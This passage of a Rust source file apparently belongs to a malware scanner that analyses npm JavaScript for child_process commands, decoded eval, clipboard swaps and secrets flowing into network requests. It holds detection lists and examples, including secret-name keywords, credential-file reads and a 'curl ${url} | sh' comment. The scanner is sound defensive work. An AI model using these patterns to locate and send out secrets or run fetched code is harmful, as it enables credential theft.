//! JavaScript analysis (npm). Resolves module aliases (`require`, `import`, `import()`,
//! destructuring, `const exec = cp.exec`), string constants and escapes, then finds the
//! behaviours of npm malware: child_process commands, network use, eval of decoded or
//! downloaded code, host identity and secrets flowing into a request or a DNS name,
//! clipboard swaps, sockets piped into shells, and obfuscator output. It fills the same
//! per-file [`Facts`] as the Python analysis, so the package-level combinations (beacon,
//! fetch-and-run, download-write-run) apply to JavaScript too.
//!
//! Scopes follow when code runs: the top level of a file and the callbacks it starts run
//! when the file is loaded (or installed); bodies of named functions, methods and route
//! handlers run when someone calls them.

use std::collections::{HashMap, HashSet};

use tree_sitter::{Node, Parser};

use crate::decode;
use crate::ext;
use crate::model::{Fact, Facts, Raw, Scope, Sink, snippet};
use crate::patterns;
use malgraph_core::Stage;

/// Where one JavaScript file's code runs.
#[derive(Debug, Clone, Copy)]
pub(crate) struct JsCtx<'a> {
    pub path: &'a str,
    /// The top level and the callbacks it starts.
    pub top: Scope,
    /// Bodies of named functions, methods and handlers.
    pub func: Scope,
    pub max_parse: usize,
}

/// Collected data, by how telling it is to send it. Host name and home directory: monitoring
/// SDKs send them at run time too.
const TAINT_WEAK: u8 = 1;
/// User info, network interfaces, DNS servers, the whole environment, credential files.
const TAINT_STRONG: u8 = 2;
/// A secret-named environment variable: sent as an auth header by API clients at run time,
/// by nothing benign while installing.
const TAINT_SECRET: u8 = 4;

/// Deepest nesting the static evaluators follow: malware concatenates thousands of pieces,
/// and recursion must stay bounded so a crafted file cannot exhaust the stack.
const MAX_DEPTH: u32 = 24;

/// `child_process` functions that start programs.
const CHILD_PROCESS: &[&str] = &[
    "exec",
    "execSync",
    "spawn",
    "spawnSync",
    "execFile",
    "execFileSync",
    "fork",
];

/// Calls whose callbacks are handlers run later (routes, CLI commands, tests), not now.
const HANDLER_REGISTRARS: &[&str] = &[
    "get",
    "post",
    "put",
    "patch",
    "delete",
    "use",
    "all",
    "route",
    "command",
    "action",
    "handler",
    "describe",
    "it",
    "test",
    "beforeEach",
    "afterEach",
    "task",
];

fn text<'a>(n: Node<'_>, src: &'a [u8]) -> &'a str {
    n.utf8_text(src).unwrap_or("")
}

/// Visit every named node under `root` (pre-order) without recursion.
fn walk<'t>(root: Node<'t>, mut f: impl FnMut(Node<'t>)) {
    let mut stack = vec![root];
    while let Some(n) = stack.pop() {
        f(n);
        let mut c = n.walk();
        let start = stack.len();
        stack.extend(n.named_children(&mut c));
        stack[start..].reverse();
    }
}

fn is_function(n: Node<'_>) -> bool {
    matches!(
        n.kind(),
        "function_declaration"
            | "generator_function_declaration"
            | "function_expression"
            | "generator_function"
            | "arrow_function"
            | "method_definition"
    )
}

/// The value of a JavaScript string escape (`\x63`, `\u0063`, `\u{63}`, `\n`...).
fn unescape(e: &str, out: &mut String) {
    let body = &e[1.min(e.len())..];
    let hex = |h: &str| u32::from_str_radix(h, 16).ok().and_then(char::from_u32);
    let c = match body.chars().next() {
        Some('x') => hex(&body[1..]),
        Some('u') => hex(body[1..].trim_start_matches('{').trim_end_matches('}')),
        Some('n') => Some('\n'),
        Some('t') => Some('\t'),
        Some('r') => Some('\r'),
        Some('0') if body.len() == 1 => Some('\0'),
        Some('\n') | Some('\r') => None,
        Some(c) => Some(c),
        None => None,
    };
    out.extend(c);
}

/// What one file's declarations tell: module aliases, constants, initialisers, taint.
struct Js<'t> {
    src: &'t [u8],
    /// Local name → module path (`cp` → `child_process`, `exec` → `child_process.exec`).
    aliases: HashMap<String, String>,
    /// Local name → string constant.
    consts: HashMap<String, String>,
    /// Local name → the expressions assigned to it.
    inits: Vec<(String, Node<'t>)>,
    taint: HashMap<String, u8>,
    /// Names holding a request or socket (`const req = https.request(...)`).
    net_vars: HashSet<String>,
    /// How many places bind each name (declarations, assignments, parameters). Names are
    /// tracked file-wide, not per scope: a name bound in several places (bundles reuse
    /// `body`, `socket`, `e` in hundreds of functions) is not followed.
    bindings: HashMap<String, u32>,
}

impl<'t> Js<'t> {
    fn text(&self, n: Node<'_>) -> &'t str {
        text(n, self.src)
    }

    /// A literal string's value with its escapes decoded.
    fn literal(&self, n: Node<'_>) -> Option<String> {
        self.literal_depth(n, 0)
    }

    fn literal_depth(&self, n: Node<'_>, depth: u32) -> Option<String> {
        if depth > MAX_DEPTH || !matches!(n.kind(), "string" | "template_string") {
            return None;
        }
        let mut out = String::new();
        let mut c = n.walk();
        for p in n.named_children(&mut c) {
            match p.kind() {
                "string_fragment" => out.push_str(self.text(p)),
                "escape_sequence" => unescape(self.text(p), &mut out),
                "template_substitution" => {
                    let inner = p.named_child(0)?;
                    out.push_str(&self.static_str_depth(inner, depth + 1)?);
                }
                _ => {}
            }
        }
        Some(out)
    }

    /// The string an expression always evaluates to, when the file says so: literals,
    /// constants, `+` and template concatenation, `String.fromCharCode`, base64 or hex
    /// decoded with `Buffer.from(...).toString()` or `atob`.
    fn static_str(&self, n: Node<'_>) -> Option<String> {
        self.static_str_depth(n, 0)
    }

    fn static_str_depth(&self, n: Node<'_>, depth: u32) -> Option<String> {
        if depth > MAX_DEPTH {
            return None;
        }
        match n.kind() {
            "string" | "template_string" => self.literal_depth(n, depth + 1),
            "identifier" => self.consts.get(self.text(n)).cloned(),
            "parenthesized_expression" => self.static_str_depth(n.named_child(0)?, depth + 1),
            "binary_expression" => {
                let op = n.child_by_field_name("operator")?;
                if self.text(op) != "+" {
                    return None;
                }
                let l = self.static_str_depth(n.child_by_field_name("left")?, depth + 1)?;
                let r = self.static_str_depth(n.child_by_field_name("right")?, depth + 1)?;
                Some(l + &r)
            }
            "call_expression" => {
                let f = n.child_by_field_name("function")?;
                let args = n.child_by_field_name("arguments")?;
                let name = self.canon(f);
                if name == "String.fromCharCode" {
                    let mut c = args.walk();
                    let mut out = String::new();
                    for a in args.named_children(&mut c) {
                        let t = self.text(a);
                        let v = match t.strip_prefix("0x") {
                            Some(h) => u32::from_str_radix(h, 16).ok()?,
                            None => t.parse().ok()?,
                        };
                        out.push(char::from_u32(v)?);
                    }
                    return Some(out);
                }
                if name == "atob" {
                    let s = self.static_str_depth(args.named_child(0)?, depth + 1)?;
                    return bytes_text(decode::b64(s.as_bytes())?);
                }
                // Buffer.from(s, 'base64' | 'hex').toString()
                if f.kind() == "member_expression"
                    && f.child_by_field_name("property")
                        .is_some_and(|p| self.text(p) == "toString")
                {
                    let mut inner = f.child_by_field_name("object")?;
                    // `const c = Buffer.from(...); c.toString()`.
                    if inner.kind() == "identifier" {
                        inner = self.init_before(inner)?;
                    }
                    if inner.kind() != "call_expression"
                        || self.canon(inner.child_by_field_name("function")?) != "Buffer.from"
                    {
                        return None;
                    }
                    let ia = inner.child_by_field_name("arguments")?;
                    let s = self.static_str_depth(ia.named_child(0)?, depth + 1)?;
                    let enc = ia.named_child(1).and_then(|e| self.literal(e));
                    return match enc.as_deref() {
                        Some("base64") => bytes_text(decode::b64(s.as_bytes())?),
                        Some("hex") => bytes_text(decode::unhex(s.as_bytes())?),
                        None | Some("utf8" | "utf-8") => Some(s),
                        _ => None,
                    };
                }
                None
            }
            _ => None,
        }
    }

    /// Best-effort text of an expression: the static value, or literal parts with the rest
    /// as written (`curl ${url} | sh`).
    fn loose_str(&self, n: Node<'_>) -> String {
        self.loose_depth(n, 0)
    }

    fn loose_depth(&self, n: Node<'_>, depth: u32) -> String {
        if depth > MAX_DEPTH {
            return String::new();
        }
        if let Some(s) = self.static_str_depth(n, depth) {
            return s;
        }
        match n.kind() {
            "binary_expression" => {
                let part = |f| {
                    n.child_by_field_name(f)
                        .map(|x| self.loose_depth(x, depth + 1))
                };
                format!(
                    "{}{}",
                    part("left").unwrap_or_default(),
                    part("right").unwrap_or_default()
                )
            }
            "template_string" => {
                let mut out = String::new();
                let mut c = n.walk();
                for p in n.named_children(&mut c) {
                    match p.kind() {
                        "string_fragment" => out.push_str(self.text(p)),
                        "escape_sequence" => unescape(self.text(p), &mut out),
                        _ => match p
                            .named_child(0)
                            .and_then(|x| self.static_str_depth(x, depth + 1))
                        {
                            Some(s) => out.push_str(&s),
                            None => out.push_str(self.text(p)),
                        },
                    }
                }
                out
            }
            "array" => {
                let mut c = n.walk();
                let parts: Vec<String> = n
                    .named_children(&mut c)
                    .take(64)
                    .map(|x| self.loose_depth(x, depth + 1))
                    .collect();
                parts.join(" ")
            }
            _ => self.text(n).to_string(),
        }
    }

    /// Where a request goes: the expression's text as [`Js::loose_str`] gives it, a name
    /// read through its value (`const url = `https://host/${p}``) when it is bound once in
    /// the function around the use (or, outside functions, once in the file).
    fn target_text(&self, n: Node<'_>) -> String {
        if n.kind() == "identifier" {
            let name = self.text(n);
            let within = std::iter::successors(n.parent(), |p| p.parent())
                .find(|p| is_function(*p))
                .map(|f| f.byte_range());
            let mut values = self.inits.iter().filter(|(k, v)| {
                k == name && within.as_ref().is_none_or(|r| r.contains(&v.start_byte()))
            });
            if let (Some((_, v)), None) = (values.next(), values.next())
                && (within.is_some() || self.unique(name))
            {
                return self.loose_str(*v);
            }
        }
        self.loose_str(n)
    }

    /// The module (or module member) an expression denotes: `require('x')`,
    /// `require('x').y`, `await import('x')`, `cp.exec` with `cp` an alias.
    fn module_of(&self, n: Node<'_>) -> Option<String> {
        self.module_depth(n, 0)
    }

    fn module_depth(&self, n: Node<'_>, depth: u32) -> Option<String> {
        if depth > MAX_DEPTH {
            return None;
        }
        match n.kind() {
            "call_expression" => {
                let f = n.child_by_field_name("function")?;
                let ft = self.text(f);
                if f.kind() != "import" && ft != "require" && !ft.ends_with(".require") {
                    return None;
                }
                let arg = n.child_by_field_name("arguments")?.named_child(0)?;
                let m = self.static_str(arg)?;
                Some(m.strip_prefix("node:").unwrap_or(&m).to_string())
            }
            "member_expression" => {
                let obj = n.child_by_field_name("object")?;
                let prop = n.child_by_field_name("property")?;
                let base = self.module_depth(obj, depth + 1)?;
                Some(format!("{base}.{}", self.text(prop)))
            }
            "identifier" => self.aliases.get(self.text(n)).cloned(),
            "await_expression" | "parenthesized_expression" => {
                self.module_depth(n.named_child(0)?, depth + 1)
            }
            _ => None,
        }
    }

    /// Dotted name of a callee with aliases resolved (`cp.exec` → `child_process.exec`,
    /// `require('os').hostname` → `os.hostname`, `globalThis.fetch` → `fetch`).
    fn canon(&self, n: Node<'_>) -> String {
        let s = self.canon_inner(n, 0);
        for p in ["globalThis.", "window.", "global.", "self."] {
            if let Some(rest) = s.strip_prefix(p) {
                return rest.to_string();
            }
        }
        s
    }

    fn canon_inner(&self, n: Node<'_>, depth: u32) -> String {
        if depth > MAX_DEPTH {
            return String::new();
        }
        if let Some(m) = self.module_of(n) {
            return m;
        }
        match n.kind() {
            "identifier" => self.text(n).to_string(),
            "member_expression" => {
                let obj = n.child_by_field_name("object");
                let prop = n.child_by_field_name("property");
                match (obj, prop) {
                    (Some(o), Some(p)) => {
                        format!("{}.{}", self.canon_inner(o, depth + 1), self.text(p))
                    }
                    _ => String::new(),
                }
            }
            "subscript_expression" => {
                let obj = n.child_by_field_name("object");
                let idx = n.child_by_field_name("index");
                match (obj, idx.and_then(|i| self.static_str(i))) {
                    (Some(o), Some(i)) => format!("{}.{i}", self.canon_inner(o, depth + 1)),
                    _ => String::new(),
                }
            }
            "parenthesized_expression" | "await_expression" => n
                .named_child(0)
                .map(|x| self.canon_inner(x, depth + 1))
                .unwrap_or_default(),
            _ if n.byte_range().len() <= 120 => self.text(n).to_string(),
            _ => String::new(),
        }
    }

    /// Whether the callee `f` names its module or member with literals glued together
    /// (`require('chi' + 'ld_process')`, `cp['ex' + 'ec']`), directly or through the
    /// alias it was bound to.
    fn split_name(&self, f: Node<'t>) -> bool {
        let glued = |x: Node<'_>| x.kind() == "binary_expression" && self.static_str(x).is_some();
        let mut stack = vec![(f, 0u32)];
        while let Some((n, depth)) = stack.pop() {
            if depth > MAX_DEPTH {
                continue;
            }
            match n.kind() {
                "call_expression" => {
                    if let Some(a) = n
                        .child_by_field_name("arguments")
                        .and_then(|a| a.named_child(0))
                        && glued(a)
                    {
                        return true;
                    }
                }
                "subscript_expression" => {
                    if n.child_by_field_name("index").is_some_and(glued) {
                        return true;
                    }
                    stack.extend(n.child_by_field_name("object").map(|o| (o, depth + 1)));
                }
                "member_expression" | "parenthesized_expression" | "await_expression" => {
                    stack.extend(
                        n.child_by_field_name("object")
                            .or_else(|| n.named_child(0))
                            .map(|o| (o, depth + 1)),
                    );
                }
                "identifier" => {
                    let name = self.text(n);
                    if self.unique(name)
                        && let Some((_, v)) = self.inits.iter().find(|(k, _)| k == name)
                    {
                        stack.push((*v, depth + 1));
                    }
                }
                _ => {}
            }
        }
        false
    }

    /// The value `id` was initialised with: its only binding, or else (minified code
    /// reuses short names) the closest one before it in the same function.
    fn init_before(&self, id: Node<'t>) -> Option<Node<'t>> {
        let name = self.text(id);
        if self.unique(name) {
            return self.inits.iter().find(|(k, _)| k == name).map(|(_, v)| *v);
        }
        let home = |mut x: Node<'t>| {
            while let Some(p) = x.parent() {
                if is_function(p) {
                    return Some(p.id());
                }
                x = p;
            }
            None
        };
        let (_, v) = self
            .inits
            .iter()
            .filter(|(k, v)| k == name && v.end_byte() <= id.start_byte())
            .max_by_key(|(_, v)| v.start_byte())?;
        (home(*v) == home(id)).then_some(*v)
    }

    /// Whether `n` is the running script's own path: `__filename`, `process.argv[1]`, or a
    /// name initialised with one.
    fn is_own_file(&self, n: Node<'t>) -> bool {
        let own = |t: &str| matches!(t, "__filename" | "process.argv[1]");
        own(self.text(n))
            || (n.kind() == "identifier" && self.init_before(n).is_some_and(|v| own(self.text(v))))
    }

    /// Whether `name` is bound in at most one place of the file.
    fn unique(&self, name: &str) -> bool {
        self.bindings.get(name).copied().unwrap_or(0) <= 1
    }

    /// Whether `name` holds a request or a socket.
    fn is_net_var(&self, name: &str) -> bool {
        self.net_vars.contains(name) && self.unique(name)
    }

    fn count_binding(&mut self, name: Node<'_>) {
        if name.kind() == "identifier" {
            *self
                .bindings
                .entry(self.text(name).to_string())
                .or_default() += 1;
        }
    }

    /// Record what `name = value` tells.
    fn bind(&mut self, name: Node<'t>, value: Node<'t>) {
        // `x = f(x)` transforms the value `x` holds rather than binding a new one.
        let mut itself = false;
        if name.kind() == "identifier" && !is_function(value) && value.byte_range().len() <= 4096 {
            let t = self.text(name);
            walk(value, |n| {
                itself |= n.kind() == "identifier" && self.text(n) == t
            });
        }
        if !itself {
            self.count_binding(name);
        }
        if let Some(m) = self.module_of(value) {
            match name.kind() {
                "identifier" => {
                    self.aliases.insert(self.text(name).to_string(), m);
                }
                "object_pattern" => {
                    let mut c = name.walk();
                    for p in name.named_children(&mut c) {
                        let (key, local) = match p.kind() {
                            "shorthand_property_identifier_pattern" => (self.text(p), self.text(p)),
                            "pair_pattern" => (
                                p.child_by_field_name("key").map_or("", |k| self.text(k)),
                                p.child_by_field_name("value").map_or("", |v| self.text(v)),
                            ),
                            _ => continue,
                        };
                        self.aliases.insert(local.to_string(), format!("{m}.{key}"));
                    }
                }
                _ => {}
            }
            return;
        }
        if name.kind() != "identifier" {
            return;
        }
        let local = self.text(name).to_string();
        if let Some(s) = self.static_str(value) {
            self.consts.insert(local.clone(), s);
        }
        if matches!(value.kind(), "call_expression" | "new_expression") {
            let f = value
                .child_by_field_name("function")
                .or_else(|| value.child_by_field_name("constructor"));
            if f.is_some_and(|f| is_network(&self.canon(f))) {
                self.net_vars.insert(local.clone());
            }
        }
        self.inits.push((local, value));
    }

    fn import_statement(&mut self, n: Node<'t>) {
        let Some(s) = n.child_by_field_name("source") else {
            return;
        };
        let m = self.literal(s).unwrap_or_default();
        let m = m.strip_prefix("node:").unwrap_or(&m).to_string();
        // import cp from 'x' / import * as cp from 'x' / import {exec as e} from 'x'
        // (read from the tree: minified code writes `import o from"https"`).
        let mut c = n.walk();
        let Some(clause) = n
            .named_children(&mut c)
            .find(|ch| ch.kind() == "import_clause")
        else {
            return;
        };
        let mut c = clause.walk();
        for part in clause.named_children(&mut c) {
            match part.kind() {
                "identifier" => {
                    self.aliases.insert(self.text(part).to_string(), m.clone());
                }
                "namespace_import" => {
                    if let Some(id) = part.named_child(0) {
                        self.aliases.insert(self.text(id).to_string(), m.clone());
                    }
                }
                "named_imports" => {
                    let mut c2 = part.walk();
                    for spec in part
                        .named_children(&mut c2)
                        .filter(|x| x.kind() == "import_specifier")
                    {
                        let Some(key) = spec.child_by_field_name("name") else {
                            continue;
                        };
                        let local = spec.child_by_field_name("alias").unwrap_or(key);
                        self.aliases.insert(
                            self.text(local).to_string(),
                            format!("{m}.{}", self.text(key).trim_matches(['"', '\''])),
                        );
                    }
                }
                _ => {}
            }
        }
    }

    /// What collected data an expression carries (function bodies inside it excluded, and
    /// request headers: a token in `authorization` is how API clients and release
    /// downloaders authenticate, not a leak).
    fn taint_of(&self, root: Node<'_>) -> u8 {
        let mut t = 0u8;
        let mut stack = vec![root];
        let mut budget = 4000usize;
        while let Some(n) = stack.pop() {
            budget = budget.saturating_sub(1);
            if budget == 0 {
                break;
            }
            match n.kind() {
                "identifier" | "shorthand_property_identifier" if self.unique(self.text(n)) => {
                    t |= self.taint.get(self.text(n)).copied().unwrap_or(0);
                }
                "pair"
                    if n.child_by_field_name("key").is_some_and(|k| {
                        let k = self.text(k).trim_matches(['\'', '"']).to_ascii_lowercase();
                        matches!(k.as_str(), "headers" | "authorization" | "auth")
                    }) =>
                {
                    continue;
                }
                "call_expression" => {
                    if let Some(f) = n.child_by_field_name("function") {
                        t |= self.source_call(&self.canon(f), n);
                    }
                }
                "member_expression" => {
                    let obj = n.child_by_field_name("object");
                    if obj.is_some_and(|o| self.text(o) == "process.env") {
                        let prop = n
                            .child_by_field_name("property")
                            .map_or("", |p| self.text(p));
                        if is_secret_name(prop) {
                            t |= TAINT_SECRET;
                        }
                        continue;
                    }
                    if self.text(n) == "process.env" {
                        t |= TAINT_STRONG;
                        continue;
                    }
                }
                _ if is_function(n) => continue,
                _ => {}
            }
            let mut c = n.walk();
            stack.extend(n.named_children(&mut c));
        }
        t
    }

    /// The taint a call returns (collection APIs, reads of credential files).
    fn source_call(&self, name: &str, call: Node<'_>) -> u8 {
        match name {
            "os.hostname" | "os.homedir" => TAINT_WEAK,
            "os.userInfo" | "os.networkInterfaces" | "dns.getServers" => TAINT_STRONG,
            "fs.readFileSync" | "fs.readFile" | "fs.promises.readFile" | "fs/promises.readFile" => {
                let names_secret = call
                    .child_by_field_name("arguments")
                    .and_then(|a| a.named_child(0))
                    .map(|a| self.loose_str(a))
                    .is_some_and(|p| {
                        patterns::string_rules(&p)
                            .iter()
                            .any(|(r, _)| r.starts_with("STEAL-"))
                    });
                if names_secret { TAINT_STRONG } else { 0 }
            }
            // A command whose output is a stored credential (`gh auth token`).
            "child_process.execSync" | "child_process.execFileSync" => {
                let cmd = call
                    .child_by_field_name("arguments")
                    .map(|a| self.loose_str(a))
                    .unwrap_or_default();
                if patterns::is_secret_command(&cmd) {
                    TAINT_STRONG
                } else {
                    0
                }
            }
            _ => 0,
        }
    }

    /// Spread taint along assignments, `x += y`, and
    /// into the parameters of callbacks given to methods of tainted values
    /// (`chunks.forEach(c => ...)`).
    fn propagate(&mut self, root: Node<'t>) {
        // Until nothing changes (a chain of n assignments needs n rounds), at most 6.
        for _ in 0..6 {
            let mut updates: Vec<(String, u8)> = Vec::new();
            for (name, init) in &self.inits {
                let t = self.taint_of(*init);
                if t != 0 {
                    updates.push((name.clone(), t));
                }
            }
            walk(root, |n| match n.kind() {
                "augmented_assignment_expression" => {
                    if let (Some(l), Some(r)) = (
                        n.child_by_field_name("left"),
                        n.child_by_field_name("right"),
                    ) && l.kind() == "identifier"
                    {
                        let t = self.taint_of(r);
                        if t != 0 {
                            updates.push((self.text(l).to_string(), t));
                        }
                    }
                }
                "call_expression" => {
                    let Some(f) = n.child_by_field_name("function") else {
                        return;
                    };
                    let Some(obj) = f.child_by_field_name("object") else {
                        return;
                    };
                    // Collected values pushed into a list taint the list.
                    if obj.kind() == "identifier"
                        && f.child_by_field_name("property")
                            .is_some_and(|p| matches!(self.text(p), "push" | "unshift"))
                        && let Some(args) = n.child_by_field_name("arguments")
                    {
                        let t = self.taint_of(args);
                        if t != 0 {
                            updates.push((self.text(obj).to_string(), t));
                        }
                        return;
                    }
                    let t = self.taint_of(obj);
                    if t == 0 || f.kind() != "member_expression" {
                        return;
                    }
                    let Some(args) = n.child_by_field_name("arguments") else {
                        return;
                    };
                    let mut c = args.walk();
                    for a in args.named_children(&mut c).filter(|a| is_function(*a)) {
                        for p in params(a) {
                            updates.push((self.text(p).to_string(), t));
                        }
                    }
                }
                _ => {}
            });
            let mut changed = false;
            for (name, t) in updates {
                let e = self.taint.entry(name).or_default();
                changed |= *e | t != *e;
                *e |= t;
            }
            if !changed {
                break;
            }
        }
    }

    /// Whether sending `args` at `scope` sends collected data worth reporting.
    fn sends_collected(&self, args: Node<'_>, scope: Scope) -> bool {
        let t = self.taint_of(args);
        t & TAINT_STRONG != 0 || (scope.stage != Stage::Runtime && t != 0)
    }
}

/// Identifier parameters of a function node.
fn params(f: Node<'_>) -> Vec<Node<'_>> {
    if let Some(p) = f.child_by_field_name("parameter") {
        return vec![p];
    }
    let Some(ps) = f.child_by_field_name("parameters") else {
        return Vec::new();
    };
    let mut c = ps.walk();
    ps.named_children(&mut c)
        .filter(|p| p.kind() == "identifier")
        .collect()
}

fn bytes_text(b: Vec<u8>) -> Option<String> {
    String::from_utf8(b).ok()
}

/// A secret-looking environment variable name (`NPM_TOKEN`, `AWS_SECRET_ACCESS_KEY`).
fn is_secret_name(n: &str) -> bool {
    let u = n.to_ascii_uppercase();
    [
        "TOKEN",
        "SECRET",
        "PASSWORD",
        "PASSWD",
        "API_KEY",
        "APIKEY",
        "PRIVATE_KEY",
        "CREDENTIAL",
    ]
    .iter()
    .any(|k| u.contains(k))
        || u.starts_with("AWS_")
}

/// A plausible bare host name (`abc.oast.fun`), not a number or a file name.
fn bare_host(s: &str) -> bool {
    let s = s.trim();
    s.len() <= 253
        && s.contains('.')
        && !s.starts_with('.')
        && !s.ends_with('.')
        && s.bytes()
            .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-' || b == b'.')
        && s.bytes().any(|b| b.is_ascii_lowercase())
        && !s.rsplit('.').next().is_some_and(|tld| {
            matches!(
                tld,
                "js" | "json"
                    | "ts"
                    | "mjs"
                    | "cjs"
                    | "node"
                    | "md"
                    | "txt"
                    | "map"
                    | "css"
                    | "html"
            )
        })
}

/// Analyse one JavaScript file into `sink`; returns the facts that package-level rules
/// combine.
pub(crate) fn analyze(src: &[u8], ctx: &JsCtx<'_>, sink: &mut Sink) -> Facts {
    let mut facts = Facts::default();
    sink.code_bytes += src.len() as u64;
    sink.code_lines += src.iter().filter(|&&c| c == b'\n').count() as u64 + 1;
    if src.len() > ctx.max_parse {
        return facts;
    }
    let mut parser = Parser::new();
    if parser
        .set_language(&tree_sitter_javascript::LANGUAGE.into())
        .is_err()
    {
        return facts;
    }
    let Some(tree) = parser.parse(src, None) else {
        return facts;
    };
    let root = tree.root_node();
    let mut js = Js {
        src,
        aliases: HashMap::new(),
        consts: HashMap::new(),
        inits: Vec::new(),
        taint: HashMap::new(),
        net_vars: HashSet::new(),
        bindings: HashMap::new(),
    };
    walk(root, |n| match n.kind() {
        "variable_declarator" => {
            if let (Some(name), Some(value)) = (
                n.child_by_field_name("name"),
                n.child_by_field_name("value"),
            ) {
                js.bind(name, value);
            }
        }
        "assignment_expression" => {
            if let (Some(l), Some(r)) = (
                n.child_by_field_name("left"),
                n.child_by_field_name("right"),
            ) {
                js.bind(l, r);
            }
        }
        "import_statement" => js.import_statement(n),
        _ if is_function(n) => {
            for p in params(n) {
                js.count_binding(p);
            }
        }
        _ => {}
    });
    for m in js.aliases.values() {
        sink.imports
            .insert(m.split('.').next().unwrap_or(m).to_string());
    }
    // Taint only matters where something is collected.
    if [
        &b"hostname"[..],
        b"userInfo",
        b"networkInterfaces",
        b"getServers",
        b"homedir",
        b"process.env",
        b"readFile",
    ]
    .iter()
    .any(|k| memchr::memmem::find(src, k).is_some())
    {
        js.propagate(root);
    }
    Walker {
        js: &js,
        ctx,
        sink,
        facts: &mut facts,
        evals: Vec::new(),
        writes: Vec::new(),
        socket_line: None,
        obf_idents: HashSet::new(),
        escaped_strings: 0,
        hidden: Vec::new(),
        strings: 0,
        funcs: HashMap::new(),
        forwarded: Vec::new(),
        quiet: Vec::new(),
        clip_writes: Vec::new(),
        clip_read: false,
        fixed_writes: Vec::new(),
        dir_reads: HashSet::new(),
        xor_decoder: None,
        encoded_table: false,
    }
    .run(root);
    facts
}

/// The behaviour walk over one file.
struct Walker<'a, 't> {
    js: &'a Js<'t>,
    ctx: &'a JsCtx<'a>,
    sink: &'a mut Sink,
    facts: &'a mut Facts,
    /// eval of a non-literal: (node, function id, scope, inside a network callback).
    evals: Vec<(Node<'t>, usize, Scope, bool)>,
    /// File writes: (line, function id, scope, snippet, inside a network callback).
    writes: Vec<(u32, usize, Scope, String, bool)>,
    socket_line: Option<(u32, Scope, String)>,
    obf_idents: HashSet<&'t str>,
    escaped_strings: usize,
    /// Decoded values of escaped string literals (checked as commands when obfuscated).
    hidden: Vec<(u32, String)>,
    strings: usize,
    /// Named functions by id: a request to one of their parameters is decided by their
    /// callers.
    funcs: HashMap<usize, Named<'t>>,
    /// Requests inside a named function that go where its caller says (a parameter, or a
    /// call of itself following a redirect): (function id, parameter index, the fact).
    forwarded: Vec<(usize, Option<usize>, Fact)>,
    /// Writes of fixed content (function id, call, scope), and functions that list a
    /// directory: together in a function that calls itself, a wiper's walk.
    fixed_writes: Vec<(usize, Node<'t>, Scope)>,
    dir_reads: HashSet<usize>,
    /// Line of a `String.fromCharCode(c ^ key)` (an XOR string decoder), and whether the
    /// file holds a table of encoded strings (an array of ≥ 5 long strings without
    /// spaces): together, an obfuscator's string table and its decoder.
    xor_decoder: Option<u32>,
    encoded_table: bool,
    /// Clipboard writes of something other than an address: (call, scope).
    clip_writes: Vec<(Node<'t>, Scope)>,
    /// Whether the file reads the clipboard.
    clip_read: bool,
    /// Byte ranges (sorted) of top-level constants' values whose names the top level never
    /// uses: the places they name are used by functions, so they weigh as function code.
    quiet: Vec<std::ops::Range<usize>>,
}

/// A named function: `function f(a) {}`, `const f = (a) => {}`.
struct Named<'t> {
    name: &'t str,
    /// Parameter names by position (`None` for patterns and rest parameters).
    params: Vec<Option<&'t str>>,
    node: Node<'t>,
}

impl<'t> Named<'t> {
    fn of(f: Node<'t>, src: &'t [u8]) -> Option<Self> {
        let name = match f.kind() {
            "function_declaration" | "generator_function_declaration" => {
                f.child_by_field_name("name")?
            }
            _ => {
                let d = f.parent().filter(|p| p.kind() == "variable_declarator")?;
                d.child_by_field_name("name")
                    .filter(|n| n.kind() == "identifier")?
            }
        };
        let params = match f.child_by_field_name("parameter") {
            Some(p) => vec![Some(text(p, src))],
            None => {
                let ps = f.child_by_field_name("parameters")?;
                let mut c = ps.walk();
                ps.named_children(&mut c)
                    .filter(|p| p.kind() != "comment")
                    .map(|p| (p.kind() == "identifier").then(|| text(p, src)))
                    .collect()
            }
        };
        Some(Named {
            name: text(name, src),
            params,
            node: f,
        })
    }
}

impl<'t> Walker<'_, 't> {
    fn push(&mut self, rule: &'static str, n: Node<'_>, scope: Scope, message: String) {
        self.sink.findings.push(Raw {
            rule,
            file: self.ctx.path.to_string(),
            line: n.start_position().row as u32 + 1,
            snippet: snippet(text(n, self.js.src)),
            layer: 0,
            message,
            stage: Some(scope.stage),
            factor: scope.factor,
        });
    }

    /// Analyse `code` that this file writes to disk, its findings placed at the write
    /// (`line`) one layer down. Each layer is a literal inside the one before, so the
    /// recursion ends.
    fn written_code(&mut self, code: &str, line: u32, scope: Scope) {
        let ctx = JsCtx {
            top: scope,
            func: Scope {
                stage: scope.stage,
                factor: self.ctx.func.factor.min(scope.factor),
            },
            ..*self.ctx
        };
        let mut sub = Sink::default();
        analyze(code.as_bytes(), &ctx, &mut sub);
        for mut f in sub.findings {
            f.line = line;
            f.layer += 1;
            self.sink.findings.push(f);
        }
        self.sink.strings.push_str(&sub.strings);
    }

    /// Whether the function `f` runs as part of the code around it (a callback handed to
    /// a call, an immediately invoked function) rather than when someone calls it.
    fn inherits(&self, f: Node<'_>, top_called: &HashSet<&str>) -> bool {
        let Some(parent) = f.parent() else {
            return false;
        };
        match parent.kind() {
            "arguments" => {
                let callee = parent
                    .parent()
                    .and_then(|c| c.child_by_field_name("function"));
                let name = callee.map(|c| self.js.canon(c)).unwrap_or_default();
                let last = name.rsplit('.').next().unwrap_or(&name);
                is_network(&name) || !HANDLER_REGISTRARS.contains(&last)
            }
            "call_expression" => true,
            "parenthesized_expression" => parent
                .parent()
                .is_some_and(|g| g.kind() == "call_expression"),
            _ => {
                f.kind() == "function_declaration"
                    && f.child_by_field_name("name")
                        .is_some_and(|n| top_called.contains(text(n, self.js.src)))
            }
        }
    }

    fn run(mut self, root: Node<'t>) {
        let src = self.js.src;
        // Functions called from the top level run at load time.
        let mut top_called: HashSet<&str> = HashSet::new();
        // Identifiers outside functions (a declared name counts once for its declaration).
        let mut top_refs: HashMap<&str, u32> = HashMap::new();
        let mut top_consts: Vec<(&str, Node<'t>)> = Vec::new();
        let mut stack = vec![(root, false)];
        while let Some((n, inside)) = stack.pop() {
            if !inside {
                match n.kind() {
                    "identifier" => *top_refs.entry(text(n, src)).or_default() += 1,
                    "variable_declarator" => {
                        if let (Some(k), Some(v)) = (
                            n.child_by_field_name("name"),
                            n.child_by_field_name("value"),
                        ) && k.kind() == "identifier"
                        {
                            top_consts.push((text(k, src), v));
                        }
                    }
                    _ => {}
                }
            }
            if !inside
                && n.kind() == "call_expression"
                && let Some(f) = n.child_by_field_name("function")
